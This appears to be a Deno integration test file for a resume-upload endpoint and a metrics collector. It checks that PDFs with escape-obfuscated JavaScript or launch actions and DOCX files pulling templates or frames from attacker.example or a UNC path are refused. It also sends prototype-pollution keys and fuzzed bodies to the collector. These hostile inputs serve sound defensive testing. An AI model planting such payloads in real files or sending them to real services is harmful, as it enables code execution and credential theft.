/**
 * Resumes that hide what they do, sent to send-tech-refugee-form as deployed (`deno run`, a real
 * PostgreSQL 15, the Resend stand-in): a PDF whose JavaScript or launch action is named with
 * `#xx` escapes (the issue's `/#4aava#53cript /#4a#53` in an object stream, and generated
 * spellings of each active action), a DOCX that attaches a template or frame from the network.
 * Each is refused with the spec's answer and neither stored nor mailed; resumes written by Word,
 * Google Docs, LibreOffice and pdf-lib, links included, are stored and mailed unchanged. And the
 * collector (collect-vitals) as deployed: names every object inherits are refused as unknown
 * metrics, and no body answers 500.
 */
import {
  docxWithParts,
  docxWithRemoteTemplate,
  escapePdfName,
  ESCAPE_FORMS,
  HIDDEN_ACTION_REASONS,
  HIDDEN_ACTIONS,
  issueExamplePdf,
  linkAction,
  pdfWithOpenAction,
  RELATIONSHIP,
  relationshipsXml,
  type EscapeForm,
} from '../../__tests__/helpers/hidden-resumes.ts';
import { encodeBase64, INVALID_FILE_TYPE } from './_shared/core/rules.ts';
import {
  assert,
  registrationPayload,
  sender,
  startResendStandIn,
  startFunction,
  startPostgres,
} from './_test/harness.ts';

const SITE = 'https://www.cascadia.example';
const options = { sanitizeResources: false, sanitizeOps: false };
/** Limits far above what these tests send from their addresses: each refusal and acceptance here is the check's. */
const GENEROUS = Object.fromEntries(
  [
    'RATE_LIMIT_MAX',
    'REFUSAL_MAX',
    'ADDRESS_DAILY_MAX',
    'NETWORK_HOURLY_MAX',
    'NETWORK_DAILY_MAX',
    'EMAIL_HOURLY_CAP',
    'EMAIL_PER_ADDRESS_HOURLY',
  ].map((k) => [k, '1000']),
);

const fixture = async (name: string) =>
  new Uint8Array(
    await Deno.readFile(new URL(`../../__tests__/fixtures/resumes/${name}`, import.meta.url)),
  );

/** Every spelling the tests send: each action, its names in each escape form and in a mix, in an object stream or not. */
function hiddenActionVariants(): { label: string; bytes: Uint8Array; reason: string }[] {
  const mixes: EscapeForm[][] = [
    ...ESCAPE_FORMS.map((f) => [f]),
    ['lower', 'plain', 'upper-lower', 'upper', 'lower-upper'],
  ];
  const out = [
    {
      label: "the issue's /#4aava#53cript /#4a#53 in an object stream",
      bytes: issueExamplePdf(),
      reason: 'it carries JavaScript',
    },
  ];
  for (const kind of Object.keys(HIDDEN_ACTIONS) as (keyof typeof HIDDEN_ACTIONS)[]) {
    for (const forms of mixes) {
      const write = (name: string) => escapePdfName(name, forms);
      for (const inObjectStream of [true, false]) {
        out.push({
          label: `${kind} written ${forms.join('/')}${inObjectStream ? ', the object stream too' : ''}`,
          bytes: pdfWithOpenAction(HIDDEN_ACTIONS[kind](write), {
            inObjectStream,
            structure: inObjectStream ? write : undefined,
          }),
          reason: HIDDEN_ACTION_REASONS[kind],
        });
      }
    }
  }
  return out;
}

const hostileDocx = () => [
  {
    label: 'a template from https',
    bytes: docxWithRemoteTemplate(),
    reason: 'an external attachedTemplate (word/_rels/settings.xml.rels)',
  },
  {
    label: 'a template from a UNC path',
    bytes: docxWithRemoteTemplate('\\\\203.0.113.9\\share\\t.dotm'),
    reason: 'an external attachedTemplate (word/_rels/settings.xml.rels)',
  },
  {
    label: 'a template whose TargetMode is a character reference',
    bytes: docxWithParts({
      'word/_rels/settings.xml.rels': relationshipsXml(
        `Type="${RELATIONSHIP}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="&#69;xternal"`,
      ),
    }),
    reason: 'an external attachedTemplate (word/_rels/settings.xml.rels)',
  },
  {
    label: 'a frame from the network',
    bytes: docxWithParts({
      'word/_rels/webSettings.xml.rels': relationshipsXml(
        `Type="${RELATIONSHIP}/frame" Target="https://attacker.example/f.html" TargetMode="External"`,
      ),
    }),
    reason: 'an external frame (word/_rels/webSettings.xml.rels)',
  },
];

Deno.test({
  ...options,
  name: 'as deployed: PDFs and DOCX files that hide an action or fetch a template are refused, neither stored nor mailed; real resumes with links are taken',
  async fn(t) {
    const resend = await startResendStandIn({ apiKey: 're_resume_attacks' });
    const pg = await startPostgres();
    const fn = await startFunction('send-tech-refugee-form', {
      ...GENEROUS,
      SUPABASE_DB_URL: pg.url,
      SITE_ORIGINS: SITE,
      RESEND_API_KEY: 're_resume_attacks',
      RESEND_API_URL: resend.url,
      MAIL_TO: 'talent@cascadia.example',
    });
    let sent = 0;
    const register = (email: string, bytes: Uint8Array, filename: string) =>
      fetch(fn.url, {
        method: 'POST',
        headers: { origin: SITE, 'content-type': 'application/json' },
        client: sender(`198.51.100.${(sent++ % 250) + 1}`),
        body: JSON.stringify({
          referralCode: '',
          elapsedMs: 9000,
          ...registrationPayload({
            email,
            resumeBase64: encodeBase64(bytes),
            resumeFilename: filename,
          }),
        }),
      });
    const stored = async (email: string) =>
      Number(
        (
          await pg.db.query<{ n: number }>(
            'select count(*)::int as n from tech_refugee_registrations where email = $1',
            [email],
          )
        )[0].n,
      );
    try {
      await t.step(
        'hostile files: 400 with the spec message and the reason, nothing stored or mailed',
        async () => {
          const mailed = resend.received.length;
          const hostile = [
            ...hiddenActionVariants().map((v) => ({ ...v, filename: 'resume.pdf' })),
            ...hostileDocx().map((v) => ({ ...v, filename: 'resume.docx' })),
          ];
          for (const { label, bytes, reason, filename } of hostile) {
            const response = await register('attacker@example.com', bytes, filename);
            const body = await response.json();
            assert(response.status === 400, `${label}: ${response.status} ${JSON.stringify(body)}`);
            assert(
              body.error === `resumeBase64: ${INVALID_FILE_TYPE} (${reason})`,
              `${label}: ${body.error}`,
            );
          }
          assert((await stored('attacker@example.com')) === 0, 'no hostile file stored');
          assert(resend.received.length === mailed, 'no hostile file mailed');
          console.log(`${hostile.length} hostile files refused`);
        },
      );

      await t.step('real resumes, links included, are stored and mailed unchanged', async () => {
        const real: [string, Uint8Array][] = [
          ...(await Promise.all(
            [
              'word.docx',
              'google-docs.docx',
              'linked-resume.docx',
              'linked-resume.pdf',
              'tagged-resume.pdf',
              'resume.pdf',
            ].map(async (n) => [n, await fixture(n)] as [string, Uint8Array]),
          )),
          [
            'pdf-lib-link.pdf',
            pdfWithOpenAction(linkAction((n) => escapePdfName(n, ['lower-upper']))),
          ],
        ];
        for (const [name, bytes] of real) {
          const email = `real-${name}@example.com`;
          const response = await register(email, bytes, name);
          const body = await response.json();
          assert(
            response.status === 200 && body.ok === true,
            `${name}: ${response.status} ${JSON.stringify(body)}`,
          );
          assert((await stored(email)) === 1, `${name} stored`);
          const mail = resend.received
            .map((m) => m.body)
            .find((m) => m.attachments[0]?.filename === name);
          assert(mail?.attachments[0].content === encodeBase64(bytes), `${name} mailed unchanged`);
        }
      });
    } finally {
      await fn.stop();
      await pg.stop();
      await resend.close();
    }
  },
});

Deno.test({
  ...options,
  name: 'as deployed: the collector refuses inherited names as metrics with a 400 naming them, and no body answers 500',
  async fn() {
    const pg = await startPostgres();
    const fn = await startFunction('collect-vitals', {
      SUPABASE_DB_URL: pg.url,
      SITE_ORIGINS: SITE,
      COLLECTOR_RATE_MAX: '10000',
      COLLECTOR_ADDRESS_HOURLY: '10000',
      COLLECTOR_NETWORK_HOURLY: '10000',
    });
    const send = async (body: string, type = 'text/plain') => {
      const response = await fetch(fn.url, {
        method: 'POST',
        headers: { origin: SITE, 'content-type': type },
        body,
      });
      return {
        status: response.status,
        error: response.status === 204 ? undefined : (await response.json()).error,
      };
    };
    const beacon = (metrics: string) =>
      `{"route":"/about","device":"mobile","visit":"first","build":"b1","metrics":{${metrics}}}`;
    try {
      for (const key of ['constructor', 'toString', 'valueOf', '__proto__', 'hasOwnProperty']) {
        const answer = await send(beacon(`"${key}":5,"LCP":1200`));
        assert(
          answer.status === 400 &&
            answer.error === `metrics.${key}: is not a known metric (LCP, INP, CLS, TTFB)`,
          `${key}: ${JSON.stringify(answer)}`,
        );
      }
      const rows = await pg.db.query<{ n: number }>(
        'select count(*)::int as n from vitals_beacons',
      );
      assert(rows[0].n === 0, 'nothing stored for them');
      // Bodies of every shape, at every content type, generated from a fixed seed.
      let seed = 42;
      const next = (n: number) => (seed = (seed * 1103515245 + 12345) % 2 ** 31) % n;
      const parts = [
        '{}',
        '[]',
        'null',
        '"x"',
        '1e999',
        '{"__proto__":{}}',
        '{"constructor":{"prototype":1}}',
        '[{"type":"csp-violation","body":{"__proto__":1}}]',
      ];
      const keys = [
        '__proto__',
        'constructor',
        'csp-report',
        'metrics',
        'body',
        'document-uri',
        'LCP',
        '',
      ];
      for (let i = 0; i < 200; i++) {
        const inner = Array.from(
          { length: next(4) },
          () => `"${keys[next(keys.length)]}":${parts[next(parts.length)]}`,
        ).join(',');
        const body = [
          beacon(inner),
          `{"csp-report":{${inner}}}`,
          `[{"type":"csp-violation","body":{${inner}}}]`,
          `{${inner}}`,
        ][next(4)];
        const type = [
          'text/plain',
          'application/json',
          'application/csp-report',
          'application/reports+json',
        ][next(4)];
        const answer = await send(body, type);
        assert(
          answer.status === 204 ||
            (answer.status >= 400 && answer.status < 500 && /: \S/.test(answer.error)),
          `${type} ${body}: ${JSON.stringify(answer)}`,
        );
      }
    } finally {
      await fn.stop();
      await pg.stop();
    }
  },
});
